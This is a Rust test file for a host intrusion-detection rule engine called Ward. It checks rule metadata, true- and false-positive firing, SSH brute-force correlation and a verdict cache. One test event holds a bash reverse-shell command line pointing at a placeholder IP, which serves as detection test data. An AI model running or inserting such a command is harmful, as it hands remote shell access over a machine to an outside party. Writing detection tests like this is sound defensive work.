//! Every built-in rule loads, carries Ward's metadata, fires on its true-positive
//! events and stays silent on its false-positive events (detect/rules/tests/).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeSet;
use std::path::Path;

use serde_json::Value;
use ward_detect::event::Event;
use ward_detect::rulestest::event_from_partial;
use ward_detect::{BUILTIN_RULES, Detector, builtin_rule_files};

fn detector() -> Detector {
    let (det, errors) = Detector::load(&builtin_rule_files());
    assert!(errors.is_empty(), "{errors:#?}");
    det
}

/// The one helper: `event` fires exactly the rules in `expected` (ids); a mismatch
/// is described in `failures` so one run lists every broken case.
fn check(det: &Detector, what: &str, event: &Event, expected: &BTreeSet<String>, failures: &mut Vec<String>) {
    let fired: BTreeSet<String> = det.evaluate(event).into_iter().map(|d| d.rule.id).collect();
    if &fired != expected {
        failures.push(format!("{what}: fired {fired:?}, expected {expected:?}\n  {event:?}"));
    }
}

/// For correlation rules: feeds `events` in order, one a second, through a fresh
/// correlator; `rule` must fire on some event (true positive) or on none.
fn check_sequence(det: &Detector, stem: &str, rule: &str, events: &[Value], fire: bool, failures: &mut Vec<String>) {
    let mut corr = det.correlator().expect("the pack has correlation rules");
    let mut fired = false;
    for (i, v) in events.iter().enumerate() {
        let e = event(v);
        let now = e.observed_at_ms + i as u64 * 1000;
        fired |= corr.process(det, &e, now).iter().any(|d| d.rule.id == rule);
    }
    if fired != fire {
        failures.push(format!(
            "{stem}: correlation fired = {fired} on its {} sequence",
            if fire { "true-positive" } else { "false-positive" }
        ));
    }
}

fn event(v: &Value) -> Event {
    let Value::Object(m) = v.clone() else {
        panic!("event is not a map: {v}")
    };
    event_from_partial(1_700_000_000_000, m).unwrap()
}

#[test]
fn builtin_pack_is_big_enough_and_well_formed() {
    let det = detector();
    assert!(BUILTIN_RULES.len() >= 25);
    assert_eq!(det.stats().loaded, BUILTIN_RULES.len());
    assert_eq!(det.stats().inactive, 0);
    let mut tactics = BTreeSet::new();
    for r in det.rules() {
        // Ward's own, or a SigmaHQ rule tuned by Ward that keeps its author (DRL 1.1).
        assert!(
            r.author == "Ward" || r.author.ends_with("; tuned by Ward"),
            "{}: {}",
            r.title,
            r.author
        );
        assert_eq!(r.id.len(), 36, "{}: id must be a UUID", r.title);
        assert!(!r.techniques.is_empty(), "{}: no technique", r.title);
        assert!(!r.tactics.is_empty(), "{}: no tactic", r.title);
        tactics.extend(r.tactics.iter().cloned());
    }
    // execution, persistence, privilege escalation, defense evasion, credential
    // access, discovery, command and control, impact
    for t in [
        "TA0002", "TA0003", "TA0004", "TA0005", "TA0006", "TA0007", "TA0011", "TA0040",
    ] {
        assert!(tactics.contains(t), "no built-in rule for {t}");
    }
}

#[test]
fn every_builtin_rule_fires_on_its_true_positives_and_not_on_its_false_positives() {
    let det = detector();
    let mut failures = Vec::new();
    let tests = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/tests");
    for (name, yaml) in BUILTIN_RULES {
        let stem = name.trim_end_matches(".yml");
        let path = tests.join(format!("{stem}.yml"));
        let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{name} has no tests ({e})"));
        let doc: Value = serde_yaml::from_str(&text).unwrap();
        let id = doc["rule"].as_str().unwrap().to_string();
        assert!(
            yaml.contains(&format!("id: {id}")),
            "{stem}: test file names another rule"
        );
        let also: BTreeSet<String> = doc["also"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap().to_string())
            .collect();
        let tps = doc["true_positives"].as_array().unwrap();
        let fps = doc["false_positives"].as_array().unwrap();
        assert!(
            !tps.is_empty() && !fps.is_empty(),
            "{stem}: needs a true and a false positive"
        );
        if doc["correlation"].as_bool() == Some(true) {
            check_sequence(&det, stem, &id, tps, true, &mut failures);
            check_sequence(&det, stem, &id, fps, false, &mut failures);
            continue;
        }
        for tp in tps {
            let e = event(tp);
            let fired: BTreeSet<String> = det.evaluate(&e).into_iter().map(|d| d.rule.id).collect();
            let mut expected: BTreeSet<String> = also.intersection(&fired).cloned().collect();
            expected.insert(id.clone());
            check(&det, &format!("{stem} true positive"), &e, &expected, &mut failures);
        }
        for fp in fps {
            check(
                &det,
                &format!("{stem} false positive"),
                &event(fp),
                &BTreeSet::new(),
                &mut failures,
            );
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn detections_carry_entities_and_matched_fields() {
    let det = detector();
    let e = event(&serde_json::json!({
        "kind": "process", "pid": 7, "ppid": 1, "user": "alice", "uid": 1000, "exe": "/usr/bin/bash",
        "cmdline": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
    }));
    let d = det.evaluate(&e);
    assert_eq!(d.len(), 1);
    let d = &d[0];
    assert_eq!(d.rule.techniques, vec!["T1059.004", "T1095"]);
    assert_eq!(d.rule.tactics, vec!["TA0002", "TA0011"]);
    assert_eq!(d.rule.severity, ward_protocol::Severity::High);
    assert_eq!(d.observed_at_ms, 1_700_000_000_000);
    let kinds: Vec<&str> = d.entities.iter().map(|e| e.kind()).collect();
    assert_eq!(kinds, vec!["user", "process", "ip"]);
    assert_eq!(d.matched[0].name, "CommandLine");
}

#[test]
fn brute_force_correlation_counts_per_source_and_window() {
    let det = detector();
    assert_eq!(det.stats().correlations, 1);
    let mut corr = det.correlator().unwrap();
    let fail = |ip: &str| {
        event(&serde_json::json!({"kind": "auth", "service": "sshd", "source_ip": ip,
            "message": format!("Failed password for root from {ip} port 1 ssh2")}))
    };
    let brute = |d: &ward_detect::Detection| d.rule.title.starts_with("SSH Brute Force: Many");
    // nine failures, then a ten-minute pause: the window has moved on
    for i in 0..9 {
        assert!(!corr.process(&det, &fail("203.0.113.7"), i * 1000).iter().any(brute));
    }
    assert!(!corr.process(&det, &fail("203.0.113.7"), 600_000).iter().any(brute));
    // ten within the window from one source fire once, with the source as entity
    let mut hits = Vec::new();
    for i in 0..10 {
        hits.extend(
            corr.process(&det, &fail("198.51.100.1"), 700_000 + i * 1000)
                .into_iter()
                .filter(brute),
        );
    }
    assert_eq!(hits.len(), 1);
    assert!(hits[0].entities.iter().any(|e| e.kind() == "ip"));
    assert_eq!(hits[0].rule.severity, ward_protocol::Severity::High);
}

/// The verdict memo changes nothing: every event of every built-in rule's tests, fed
/// twice (the second pass answered from the memo) through the default pack (built-in
/// and SigmaHQ rules), with variants whose pid and time differ, gets the same
/// detections as without it; the correlation sequences fire as without it.
#[test]
fn the_default_pack_decides_the_same_with_the_verdict_memo() {
    let det = {
        let (det, errors) = Detector::load(&ward_detect::default_rule_files(&ward_detect::PackChoice::default()));
        assert!(errors.is_empty(), "{errors:#?}");
        det
    };
    let tests = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/tests");
    let mut events = Vec::new();
    let mut sequences = Vec::new();
    for (name, _) in BUILTIN_RULES {
        let text = std::fs::read_to_string(tests.join(name)).unwrap();
        let doc: Value = serde_yaml::from_str(&text).unwrap();
        let all: Vec<Value> = ["true_positives", "false_positives"]
            .iter()
            .flat_map(|k| doc[*k].as_array().unwrap().clone())
            .collect();
        if doc["correlation"].as_bool() == Some(true) {
            sequences.push(all);
        } else {
            events.extend(all.iter().map(event));
        }
    }
    assert!(events.len() > 100, "{}", events.len());
    // Beside each event, variants that differ in one field rules read: a memo
    // keyed without that field would hand them the original's verdict.
    use ward_detect::event::EventData;
    let variants = |e: &Event| -> Vec<Event> {
        let edits: [fn(&mut EventData); 3] = [
            |d| match d {
                EventData::Process(p) => p.cmdline = "ls".into(),
                EventData::File(f) => f.path = "/srv/plain.txt".into(),
                EventData::Network(n) => n.destination_port = Some(443),
                EventData::Auth(a) => a.message = "session opened".into(),
                _ => {}
            },
            |d| match d {
                EventData::Process(p) => p.exe = "/usr/bin/ls".into(),
                EventData::Network(n) => n.process.exe = "/usr/bin/ls".into(),
                _ => {}
            },
            |d| {
                if let EventData::Process(p) = d {
                    p.parent_exe = "/usr/sbin/cron".into();
                    p.parent_cmdline = "/usr/sbin/cron -f".into();
                }
            },
        ];
        edits
            .iter()
            .map(|edit| {
                let mut v = e.clone();
                edit(&mut v.data);
                v
            })
            .collect()
    };
    let events: Vec<Event> = events
        .iter()
        .flat_map(|e| std::iter::once(e.clone()).chain(variants(e)))
        .collect();
    let mut memo = det.memo();
    let mut fired = 0;
    for pass in 0..2u64 {
        for e in &events {
            let mut e = e.clone();
            e.observed_at_ms += pass * 7;
            if let ward_detect::event::EventData::Process(p) = &mut e.data {
                p.pid += pass as u32 * 1000;
            }
            let plain = det.evaluate(&e);
            fired += plain.len();
            assert_eq!(det.evaluate_with(&mut memo, &e), plain, "pass {pass}: {e:?}");
        }
    }
    assert!(fired > events.len() / 2, "the events fire rules: {fired}");
    let stats = memo.stats();
    assert!(stats.hits >= events.len() as u64 / 2, "{stats:?}");
    for seq in sequences {
        let (mut plain, mut memoized) = (det.correlator().unwrap(), det.correlator().unwrap());
        let mut memo = det.memo();
        for (i, v) in seq.iter().chain(seq.iter()).enumerate() {
            let e = event(v);
            let now = e.observed_at_ms + i as u64 * 1000;
            assert_eq!(
                memoized.process_with(&det, &mut memo, &e, now),
                plain.process(&det, &e, now),
                "{v}"
            );
        }
    }
}
